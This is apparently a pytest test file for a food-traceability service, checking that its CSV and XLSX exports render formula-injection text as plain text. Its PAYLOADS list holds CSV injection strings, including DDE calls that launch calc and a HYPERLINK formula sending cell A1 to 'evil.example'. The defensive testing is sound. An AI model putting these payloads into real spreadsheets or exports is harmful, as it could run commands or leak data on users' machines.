"""Spreadsheets that cannot carry formulas (foodtrace.sheets): hostile text in every free-text
field of a world, through every export (trail.csv and trail.xlsx, API and page; the case's
scope.xlsx, API and page; the import templates), comes out as text a spreadsheet shows and
never runs: no ``<f>`` element in any sheet, no CSV field a spreadsheet takes for a formula,
and the text still reads as written. Numbers (quantities, seqs) are numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import LONG, data_fixture
from foodtrace.accounts.service import Role, add_user
from foodtrace.db import write_session
from foodtrace.imports import IMPORTABLE, template_csv, template_xlsx
from foodtrace.sheets import (
    FORMULA_TRIGGERS,
    Column,
    Kind,
    Sheet,
    csv_bytes,
    csv_chunks,
    xlsx_bytes,
    xlsx_chunks,
)

import factories as f

DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    DDE,
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "=石榴汁()",
    "#N/A",
    "#DIV/0!",
    "'=already quoted",
    "-",
    "=",
    "@",
    "+86 632 7711234",
    "a\tb\nc",
    "石榴饮品=1+1",
]
"""Formulas, DDE calls, every OWASP trigger (= + - @ tab CR), spaces before one, error
literals, CJK: each must come out as text."""

XML_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def hostile_text() -> st.SearchStrategy[str]:
    """Text a spreadsheet might run: a trigger or a payload, then any text (XML-safe)."""
    tail = st.text(
        st.characters(codec="utf-8", exclude_categories=("Cs",)).filter(
            lambda ch: not XML_UNSAFE.match(ch)
        ),
        max_size=30,
    )
    head = st.sampled_from([*FORMULA_TRIGGERS, " =", "", *PAYLOADS])
    return st.builds(lambda h, t: h + t, head, tail)


# ------------------------------------------------------------- reading an export back


def dangerous(field: str) -> bool:
    """A CSV field a spreadsheet would take for a formula (OWASP: = + - @ tab CR first),
    spaces before one included."""
    return field.startswith(FORMULA_TRIGGERS) or field.lstrip().startswith(FORMULA_TRIGGERS)


def unquote(field: str) -> str:
    """The text as written: the writer's one apostrophe off a field that begins with
    apostrophes before formula-like text."""
    return field[1:] if field.startswith("'") and dangerous(field[1:].lstrip("'")) else field


NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


def check_csv(body: bytes, numeric: set[str]) -> list[dict[str, str]]:
    """Every field safe (numeric columns: numbers); the rows with the apostrophes taken off."""
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    header, data = rows[0], rows[1:]
    for row in rows:
        for name, field in zip(header, row, strict=True):
            if name in numeric and NUMBER.match(field):
                continue
            assert not dangerous(field), f"CSV field {field!r} of column {name!r} runs"
    return [dict(zip(header, map(unquote, row), strict=True)) for row in data]


def check_xlsx(body: bytes) -> dict[str, list[list[Any]]]:
    """No sheet holds a formula; every text cell is a string; the sheets' values."""
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                assert "<f>" not in xml, f"{name} holds a formula"
                assert "<f " not in xml, f"{name} holds a formula"
                assert 't="e"' not in xml, f"{name} holds an error value"
                assert 't="str"' not in xml, f"{name} holds a formula's cached string"
    wb = openpyxl.load_workbook(io.BytesIO(body))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb.worksheets}


def _xml_text(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")  # XML's end-of-line handling


# ------------------------------------------------------------------- the writer itself


@settings(max_examples=300 if LONG else 60, deadline=None, database=None)
@given(
    texts=st.lists(hostile_text(), min_size=1, max_size=8),
    numbers=st.lists(st.decimals(-(10**11), 10**11, places=3), max_size=8),
)
def test_hostile_text_stays_text_and_numbers_stay_numbers(
    texts: list[str], numbers: list[Decimal]
) -> None:
    n = max(len(texts), len(numbers))
    rows = [
        [texts[i] if i < len(texts) else None, numbers[i] if i < len(numbers) else None, text, i]
        for i, text in enumerate((texts * n)[:n])
    ]
    columns = [
        Column("名称"),
        Column("数量", Kind.NUMBER),
        Column("备注"),
        Column("行", Kind.NUMBER),
    ]
    sheet = Sheet("t", columns, rows)

    back = check_csv(csv_bytes(sheet), numeric={"数量"})
    for row, got in zip(rows, back, strict=True):
        assert got["名称"] == (row[0] or "")
        assert got["备注"] == row[2]
        if row[1] is not None:
            assert Decimal(got["数量"]) == row[1]

    cells = check_xlsx(xlsx_bytes([sheet]))["t"]
    assert cells[0] == ["名称", "数量", "备注", "行"]
    for row, got in zip(rows, cells[1:], strict=True):
        assert got[0] == (_xml_text(row[0]) if row[0] else None)
        assert got[2] == (_xml_text(row[2]) if row[2] else None)
        assert got[3] == row[3]
        if row[1] is not None:  # a number of 15 digits at most: a double holds it
            assert isinstance(got[1], int | float)
            assert Decimal(repr(got[1])).quantize(Decimal("0.001")) == row[1]


@settings(max_examples=40, deadline=None, database=None)
@given(
    texts=st.lists(hostile_text(), min_size=0, max_size=30),
    every=st.integers(1, 7),
)
def test_a_streamed_export_is_the_export(texts: list[str], every: int) -> None:
    """The streamed CSV is byte for byte the built one, in a chunk per ``every`` rows; the
    streamed workbook holds the same cells (its ZIP carries times, so not the same bytes)."""
    sheet = Sheet(
        "t", [Column("名称"), Column("行", Kind.NUMBER)], [[t, i] for i, t in enumerate(texts)]
    )
    chunks = list(csv_chunks(sheet, rows_a_chunk=every))
    assert b"".join(chunks) == csv_bytes(sheet)
    assert len(chunks) >= max(1, len(texts) // every)
    assert check_xlsx(b"".join(xlsx_chunks([sheet], chunk=1000))) == check_xlsx(xlsx_bytes([sheet]))


def test_a_number_a_spreadsheet_would_round_is_written_as_text() -> None:
    sheet = Sheet("t", [Column("n", Kind.NUMBER)], [["1234567890123456.5"], ["-5"]])
    assert check_xlsx(xlsx_bytes([sheet]))["t"][1:] == [["1234567890123456.5"], [-5]]
    assert check_csv(csv_bytes(sheet), numeric={"n"}) == [{"n": "1234567890123456.5"}, {"n": "-5"}]


def test_a_control_character_does_not_fail_the_export() -> None:
    cells = check_xlsx(xlsx_bytes([Sheet("t", [Column("x")], [["a\x00=b"]])]))
    assert cells["t"][1] == ["a\ufffd=b"]


@pytest.mark.parametrize("kind", sorted(IMPORTABLE))
def test_the_import_templates_hold_no_formula(kind: str) -> None:
    check_xlsx(template_xlsx(kind))
    check_csv(template_csv(kind), numeric=set())


# ----------------------------------------------------------------------- a hostile world

NAMES = {
    "enterprise": PAYLOADS[0],  # the beverage maker's registered name
    "supplier": DDE,
    "customer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "product": "+1+1 石榴汁",
    "material": "-2+3+cmd|' /C calc'!A0",
}
CODES = {  # codes allow no spaces or URL delimiters, but formulas fit
    "supplier": "@A1",
    "customer": "=1+1",
    "lot": "-PJ0301",
    "material_lot": "=ML(0301)",
    "product": "+PJ500",  # (not in any export: the product's name is)
}
UNITS = {"product": "=瓶", "package": "@箱", "material": "-kg"}
PASSWORD = "hostile pass 2026"


@data_fixture
def hostile_world(engine, clock) -> dict[str, str]:
    """A beverage maker whose every free-text field and code is a formula, a recalled lot of
    it (a case of the district's), its enterprise user ``op`` and the regulator ``reg_yc``."""
    lid = f.register(engine, clock, f.BEVERAGE, name=NAMES["enterprise"])
    f.add(
        engine, clock, lid, "supplier",
        f.supplier(code=CODES["supplier"], name=NAMES["supplier"], credit_code=None,
                   licence_no=None),
    )  # fmt: skip
    f.add(
        engine, clock, lid, "customer",
        f.customer(code=CODES["customer"], name=NAMES["customer"], credit_code=None),
    )  # fmt: skip
    f.add(
        engine, clock, lid, "product",
        f.product(code=CODES["product"], name=NAMES["product"], unit=UNITS["product"],
                  packaging=[{"unit": UNITS["package"], "quantity": "24"}]),
    )  # fmt: skip
    f.add(
        engine, clock, lid, "material_check",
        f.material_check(material_lot=CODES["material_lot"], material_name=NAMES["material"],
                         supplier_code=CODES["supplier"], unit=UNITS["material"]),
    )  # fmt: skip
    f.add(
        engine, clock, lid, "production_lot",
        f.production_lot(
            product_code=CODES["product"], lot_code=CODES["lot"], unit=UNITS["package"],
            materials=[{"material_lot": CODES["material_lot"], "quantity": "300",
                        "unit": UNITS["material"]}],
        ),
    )  # fmt: skip
    f.add(
        engine, clock, lid, "sale",
        f.sale(lot_code=CODES["lot"], customer_code=CODES["customer"], unit=UNITS["package"],
               quantity="6000"),
    )  # fmt: skip
    f.regulators(engine, clock)
    with write_session(engine) as s:
        add_user(
            session=s, username="op", password=PASSWORD, role=Role.ENTERPRISE_USER,
            now=clock.now(), enterprise_credit_code=f.BEVERAGE,
        )  # fmt: skip
    case_id = f.recall(engine, clock, f.BEVERAGE, CODES["lot"])
    return {"case": case_id}


def _exports(client, case_id: str) -> dict[str, bytes]:
    """Every export of the world, through the API (a token) and the pages (a session)."""
    from fastapi.testclient import TestClient

    reg = f.bearer(client, "reg_yc")
    trail = f"/api/v1/lots/{f.BEVERAGE}/{CODES['lot']}/trail"
    page_trail = {"credit_code": f.BEVERAGE, "lot": CODES["lot"]}
    with TestClient(client.app) as web:
        r = f.page_login(web, "reg_yc", f.REGULATOR_PASSWORD)
        assert r.status_code < 400, r.text
        pages = {
            "page trail.csv": web.get("/regulator/trail/export.csv", params=page_trail),
            "page trail.xlsx": web.get("/regulator/trail/export.xlsx", params=page_trail),
            "page scope.xlsx": web.get(f"/regulator/cases/{case_id}/scope.xlsx"),
        }
    op = f.bearer(client, "op", PASSWORD)
    answers = {
        "api trail.csv": client.get(trail + ".csv", headers=reg),
        "api trail.xlsx": client.get(trail + ".xlsx", headers=reg),
        "api scope.xlsx": client.get(f"/api/v1/cases/{case_id}/scope.xlsx", headers=reg),
        **pages,
        "api template.csv": client.get("/api/v1/templates/sales.csv", headers=op),
        "api template.xlsx": client.get("/api/v1/templates/sales.xlsx", headers=op),
    }
    for name, r in answers.items():
        assert r.status_code == 200, f"{name}: {r.status_code} {r.text[:200]}"
    return {name: r.content for name, r in answers.items()}


TRAIL_NUMBERS = {"数量", "账本序号"}


def test_every_export_of_a_hostile_world_holds_text_not_formulas(client, hostile_world) -> None:
    exports = _exports(client, hostile_world["case"])
    shown: list[str] = []
    for name, body in exports.items():
        if name.endswith(".csv"):
            rows = check_csv(body, numeric=TRAIL_NUMBERS)
            shown += [v for row in rows for v in row.values()]
        else:
            for cells in check_xlsx(body).values():
                shown += [v for row in cells for v in row if isinstance(v, str)]
    # every hostile name and code reads as written, in the regulator's exports
    codes = [c for k, c in CODES.items() if k != "product"]
    for text in [*NAMES.values(), *codes, *UNITS.values()]:
        assert any(text in v for v in shown), f"{text!r} is missing from the exports"

    # quantities and seqs are numbers in the workbooks, and in the CSV
    for name in ("api trail.xlsx", "page scope.xlsx"):
        cells = check_xlsx(exports[name])["追溯"]
        head = cells[0]
        sold = [r for r in cells[1:] if r[head.index("事件类型")] == "销售"]
        assert [r[head.index("数量")] for r in sold] == [6000]
        assert all(isinstance(r[head.index("账本序号")], int) for r in cells[1:])
    customers = check_xlsx(exports["api scope.xlsx"])["客户"]
    head = customers[0]
    assert [r[head.index("数量")] for r in customers[1:]] == [6000]
    assert [r[head.index("客户")] for r in customers[1:]] == [NAMES["customer"]]
    sold = [r for r in check_csv(exports["api trail.csv"], TRAIL_NUMBERS) if r["数量"] == "6000"]
    assert [r["单位"] for r in sold] == [UNITS["package"]]


@settings(
    max_examples=25 if LONG else 4,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=hostile_text().map(str.strip).filter(lambda s: 0 < len(s) <= 200))
def test_a_generated_customer_name_comes_out_of_the_trail_as_text(
    client, hostile_world, name: str
) -> None:
    import unicodedata

    name = unicodedata.normalize("NFC", name)
    op = f.bearer(client, "op", PASSWORD)
    code = f"C{abs(hash(name)) % 10**12}"
    r = client.post(
        "/api/v1/customers", headers=op, json=f.customer(code=code, name=name, credit_code=None)
    )
    if r.status_code == 422:  # text the records refuse (bidi overrides, separators…)
        return
    assert r.status_code in (200, 201), r.text
    r = client.post(
        "/api/v1/sales", headers=op,
        json=f.sale(lot_code=CODES["lot"], customer_code=code, unit=UNITS["package"],
                    quantity="1"),
    )  # fmt: skip
    assert r.status_code == 201, r.text
    reg = f.bearer(client, "reg_yc")
    trail = f"/api/v1/lots/{f.BEVERAGE}/{CODES['lot']}/trail"
    rows = check_csv(client.get(trail + ".csv", headers=reg).content, TRAIL_NUMBERS)
    assert any(row["去向"] == f"{name} {code}" for row in rows)
    cells = check_xlsx(client.get(trail + ".xlsx", headers=reg).content)["追溯"]
    assert any(row[cells[0].index("去向")] == _xml_text(f"{name} {code}") for row in cells)
